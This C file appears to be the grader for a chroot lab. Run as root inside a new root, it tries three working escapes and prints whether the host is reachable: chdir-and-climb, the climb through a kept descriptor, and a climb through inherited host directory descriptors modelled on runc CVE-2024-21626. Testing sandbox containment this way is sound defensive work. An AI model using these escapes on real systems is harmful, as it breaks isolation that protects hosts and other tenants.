/* labs/02-chroot/grader/escape.c — ways out of a root, tried from inside it.
 *
 * usage: escape chdir|fd|fds HOST_PATH
 * Run as root inside a new root. Prints "escaped: ..." and exits 0 when,
 * after the attempt, HOST_PATH (a path that exists only on the host) can be
 * reached; prints "contained" and exits 1 when it cannot; exits 2 on a usage
 * or system error.
 *
 * The two classic ways out of a chroot(2):
 *   chdir  mkdir a directory, chroot(2) into it but stay where we are: our
 *          cwd is now outside our root, and the kernel stops ".." only AT the
 *          root, so chdir("..") climbs up to the real "/", where chroot(".")
 *          makes it our root again.
 *   fd     the same with a descriptor: keep an fd of the current root, chroot
 *          into a subdirectory and chdir("/") into it like a careful program,
 *          then fchdir(fd) steps back outside, and climb the same way.
 * Both work because chroot only moves the process's root directory. After a
 * pivot_root that detached the old root there is nothing above "/" in the
 * mount namespace: ".." of "/" is "/", and the climb ends where it began.
 *
 * And one way out of any root, pivot_root or not:
 *   fds    use a directory descriptor that the runtime opened on the host and
 *          left open across exec (runc's CVE-2024-21626). A process should
 *          start with 0, 1 and 2 only, none of them a directory. From each
 *          directory descriptor it was started with we climb with
 *          openat(dir, "..") until ".." is the directory itself, trying at
 *          each level whether HOST_PATH (or its tail, e.g. its last name
 *          from its parent directory) is there. The descriptor escapes when
 *          HOST_PATH is found, or when the climb ends anywhere but at our own
 *          "/": then it is a directory outside the root (a detached old root
 *          is still readable through it, its submounts gone), and
 *          fchdir(fd) + chroot(".") would make it ours.
 * Built static (gcc -static): the root it runs in has no libc.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char* what) {
  fprintf(stderr, "escape: %s: %s\n", what, strerror(errno));
  return 2;
}

/* Climbs as far as ".." goes, then makes that the root. */
static int climb_and_chroot(void) {
  for (int i = 0; i < 256; ++i)
    if (chdir("..") != 0) return fail("chdir ..");
  if (chroot(".") != 0) return fail("chroot .");
  return 0;
}

static int same_file(const struct stat* a, const struct stat* b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* Whether HOST_PATH, or one of its tails, resolves from directory DIR: from
 * the host's "/" the whole path does, from its parent directory the last
 * name does. HOST_PATH's last name holds a random token: nothing inside the
 * root has it. Returns the tail found, or NULL. */
static const char* host_path_from(int dir, const char* host_path) {
  for (const char* tail = host_path; tail != NULL; tail = strchr(tail, '/')) {
    while (*tail == '/') ++tail;
    if (*tail == '\0') break;
    struct stat st;
    if (fstatat(dir, tail, &st, AT_SYMLINK_NOFOLLOW) == 0) return tail;
  }
  return NULL;
}

/* The fds mode: through any directory descriptor we were started with. */
static int through_inherited_descriptors(const char* host_path) {
  struct stat root;
  if (stat("/", &root) != 0) return fail("stat /");
  /* List them all before opening anything: our own descriptors would join
   * the list otherwise. */
  struct rlimit limit;
  long max = 1024;
  if (getrlimit(RLIMIT_NOFILE, &limit) == 0 && limit.rlim_cur != RLIM_INFINITY)
    max = (long)limit.rlim_cur;
  if (max > 65536) max = 65536;
  enum { kMaxDirs = 64 };
  int dirs[kMaxDirs];
  int n = 0;
  for (int fd = 0; fd < max && n < kMaxDirs; ++fd) {
    struct stat st;
    if (fstat(fd, &st) != 0) continue;
    if (fd > 2) fprintf(stderr, "escape: inherited descriptor %d (%s)\n", fd,
                        S_ISDIR(st.st_mode) ? "a directory" : "not a directory");
    if (S_ISDIR(st.st_mode)) dirs[n++] = fd;
  }
  for (int i = 0; i < n; ++i) {
    int cur = fcntl(dirs[i], F_DUPFD_CLOEXEC, 0);
    if (cur < 0) return fail("dup an inherited descriptor");
    struct stat here;
    if (fstat(cur, &here) != 0) return fail("fstat an inherited descriptor");
    for (int level = 0;; ++level) {
      const char* found = host_path_from(cur, host_path);
      if (found != NULL) {
        printf("escaped: inherited descriptor %d reaches %s (%s, %d level(s) up)\n", dirs[i],
               host_path, found == host_path + 1 ? "all of it" : "its tail", level);
        return 0;
      }
      int up = openat(cur, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
      if (up < 0) return fail("openat .. from an inherited descriptor");
      struct stat above;
      if (fstat(up, &above) != 0) return fail("fstat ..");
      close(cur);
      cur = up;
      if (same_file(&above, &here)) break;  /* ".." is itself: the top of its tree */
      here = above;
    }
    close(cur);
    if (!same_file(&here, &root)) {
      printf("escaped: inherited descriptor %d is a directory outside the root "
             "(its \"..\" climb ends at device %lu inode %lu, not at /)\n",
             dirs[i], (unsigned long)here.st_dev, (unsigned long)here.st_ino);
      return 0;
    }
  }
  printf("contained\n");
  return 1;
}

int main(int argc, char* argv[]) {
  if (argc != 3 || (strcmp(argv[1], "chdir") != 0 && strcmp(argv[1], "fd") != 0 &&
                    strcmp(argv[1], "fds") != 0)) {
    fprintf(stderr, "usage: escape chdir|fd|fds HOST_PATH\n");
    return 2;
  }
  const char* host_path = argv[2];
  if (strcmp(argv[1], "fds") == 0) return through_inherited_descriptors(host_path);

  const char* jail = "/.escape-jail";
  if (mkdir(jail, 0700) != 0 && errno != EEXIST) return fail("mkdir /.escape-jail");

  if (strcmp(argv[1], "chdir") == 0) {
    if (chdir("/") != 0) return fail("chdir /");
    if (chroot(jail) != 0) return fail("chroot /.escape-jail");  /* cwd stays outside */
  } else {
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    if (fd < 0) return fail("open /");
    if (chroot(jail) != 0) return fail("chroot /.escape-jail");
    if (chdir("/") != 0) return fail("chdir /");                  /* inside, as it should be */
    if (fchdir(fd) != 0) return fail("fchdir to the old root");   /* and out again */
    close(fd);
  }
  int rc = climb_and_chroot();
  if (rc != 0) return rc;

  struct stat st;
  if (stat(host_path, &st) == 0) {
    printf("escaped: %s is visible\n", host_path);
    return 0;
  }
  printf("contained\n");
  return 1;
}
